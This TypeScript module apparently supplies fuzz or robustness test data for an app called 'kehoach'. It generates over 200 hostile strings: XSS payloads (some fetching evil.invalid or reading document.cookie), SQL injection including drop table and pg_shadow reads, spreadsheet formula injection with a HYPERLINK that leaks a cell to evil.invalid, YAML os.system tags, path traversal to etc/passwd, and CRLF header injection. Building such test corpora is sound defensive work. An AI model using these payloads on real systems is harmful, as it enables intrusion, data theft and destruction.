// Texts that mean something to a browser, a database, a spreadsheet, YAML, a file system or a font, by family.

const scripts = ["alert(1)", "fetch('//evil.invalid')", "document.cookie"];
const wrappers: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `"><svg/onload=${script}>`,
  (script) => `<a href="javascript:${script}">xem</a>`,
  (script) => `' autofocus onfocus=${script} x='`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `\${${script}}`,
  (script) => `]]><x onclick="${script}"/>&#0;&amp;`,
  (script) => `</w:t></w:r><w:fldSimple w:instr="${script}"/>`,
  (script) => `data:text/html,<script>${script}</script>`,
];
const tables = ["kehoach.entry", "kehoach.plan", "pg_shadow"];
const statements: readonly ((table: string) => string)[] = [
  (table) => `'; drop table ${table}; --`,
  (table) => `' or '1'='1' -- ${table}`,
  (table) => `") union select * from ${table} --`,
  (table) => `\\'; delete from ${table}; --`,
  (table) => `$$; update ${table} set x = 1; $$`,
  (table) => `$1 ${table} %s ? :name`,
  (table) => `%' and (select count(*) from ${table}) > 0 and '%'='`,
  (table) => `{"$where": "${table}"}`,
  (table) => `'||(select 1 from ${table})||'`,
  (table) => `1; select pg_sleep(9) -- ${table}`,
];
const starts = ["=", "+", "-", "@", "\t=", "\r=", "＝", " ="];
const formulas = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid?"&A1,"xem")', "SUM(1+1)*1", "2+5"];
const yaml = [
  "!!js/function 'x'",
  "!<tag:yaml.org,2002:python/object/apply:os.system> ls",
  "*alias",
  "&anchor x",
  "<<: {a: 1}",
  "{ a: 1, a: 2 }",
  "---\nkehoach: 2",
  "%YAML 1.1",
  "x: |\n  y",
  "# ? câu hỏi",
  "yes",
  "0o17",
  "1e999",
  "2017-13-45",
  "~",
  "__proto__: x",
  "constructor",
];
const roots = ["../".repeat(8), "..\\..\\", "/", "file:///", "%2e%2e%2f", "C:\\"];
const files = ["etc/passwd", "kehoach.lock", "NUL", "a.yaml%00.png", "con.xml"];
const letters = [
  "\u202eđảo ngược",
  "ẩn\u200bgiữa\u200d\ufeff",
  "a\u0301\u0301\u0301".repeat(40),
  "So\u031b\u0309",
  "𝕊ở 𝟙",
  "👩‍👩‍👧‍👦 🇻🇳",
  "\u2028dòng\u2029đoạn",
  "ﷺ".repeat(100),
  "İıſK",
  "\u00a0\u3000",
  "Ω≈ç√∫˜µ≤≥÷",
  "\ufff9chú\ufffa",
  "١٢٣",
  "\u0001\u0007\u001b[31mđỏ\u007f",
  "x\r\nSet-Cookie: a=b",
  "%0d%0aLocation:%20//evil.invalid",
  "a".repeat(4_000),
];

const pairs = <One, Other>(ones: readonly One[], others: readonly Other[]): [One, Other][] =>
  ones.flatMap((one) => others.map((other): [One, Other] => [one, other]));

/** By family; together more than 200, each once. PostgreSQL can hold every one of them. */
export const hostileTexts: Readonly<Record<string, readonly string[]>> = {
  markup: pairs(wrappers, scripts).map(([wrap, script]) => wrap(script)),
  sql: pairs(statements, tables).map(([state, table]) => state(table)),
  formula: pairs(starts, formulas).map(([start, formula]) => `${start}${formula}`),
  markupInFormula: pairs(starts, scripts).map(([start, script]) => `${start}"<b onclick=${script}>"`),
  encoded: pairs(wrappers, scripts).map(([wrap, script]) => encodeURIComponent(wrap(script))),
  yaml,
  path: pairs(roots, files).map(([root, file]) => `${root}${file}`),
  unicode: letters,
};
